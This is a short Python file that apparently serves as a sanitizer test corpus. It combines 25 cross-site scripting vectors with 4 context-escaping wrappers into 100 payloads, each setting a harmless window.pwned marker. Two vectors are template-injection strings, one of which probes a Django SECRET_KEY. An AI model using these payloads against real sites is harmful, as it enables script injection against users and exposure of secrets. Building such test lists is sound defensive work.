"""A hundred texts that would like to be code. Whichever runs sets `window.pwned`."""

RUN = "window.pwned=1"
VECTORS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<a href=javascript:{RUN}>Quelle</a>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<object data=javascript:{RUN}></object>",
    f"<template><script>{RUN}</script></template>",
    f"<base href=javascript:{RUN}//>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% load x %}}{{{{ settings.SECRET_KEY }}}}<img src=x onerror={RUN}>",
    f"<b onmouseover={RUN}>fett</b>",
]
# How a text tries to leave the place where it stands: an attribute, a script, a comment, a text field.
WRAPPERS = ["{}", '">{}', "</script></textarea></title></style>{}", "'--><!--\u2028{}"]
PAYLOADS = [wrapper.format(vector) for vector in VECTORS for wrapper in WRAPPERS]
